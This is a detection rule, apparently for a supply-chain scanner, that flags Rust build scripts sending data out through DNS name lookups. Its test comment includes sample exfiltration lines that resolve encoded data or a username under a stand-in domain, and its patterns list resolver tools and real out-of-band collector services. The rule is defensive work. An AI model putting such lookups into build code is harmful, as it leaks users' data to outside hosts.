/*
A name made of what was found, or a tool that looks names up: it passes where nothing else does. A build resolves no names.

```rust,match
fn main() { let _ = (format!("{}.drop.test", hex), 80).to_socket_addrs(); }
```
```rust,match
fn main() { Command::new("nslookup").arg(format!("{user}.drop.test")).output().ok(); }
```
```rust,clean
fn main() { let _ = ("127.0.0.1", 80).to_socket_addrs(); }
```
```rust,clean
fn main() { println!("cargo:rustc-env=TARGET_HOST={host}"); }
```
*/
rule name_as_message : high {
  meta:
    id = "1930a3b5-d32b-4653-98c0-80a39f47a33c"
    description = "Data is carried out in a name that is looked up"
    author = "Sandpit"
    date = "2026-11-25"
    status = "stable"
    scope = "build-script"
    behaviours = "dns-channel"
    references = "RUSTSEC-2025-0156, T1048.003, T1071.004"
  strings:
    $tool = /Command::new\s?\(\s?"(nslookup|dig|drill|host|resolvectl)(\.exe)?"/
    $tuple = /\(\s?(&\s?)?format!\s?\([^;]{0,120}\)\s?,\s?[0-9]{1,5}\s?\)\s?\.to_socket_addrs/
    $text = /format!\s?\([^;]{0,120}:[0-9]{1,5}"[^;]{0,80}\)\s?\.to_socket_addrs/
    $resolver = /\blookup_(ip|host)\s?\(\s?&?\s?format!/
    $collector = /\b(interact\.sh|dnslog\.cn|requestrepo\.com|canarytokens\.com|dns\.ceye\.io|bxss\.me)\b/
  condition:
    any of them
}
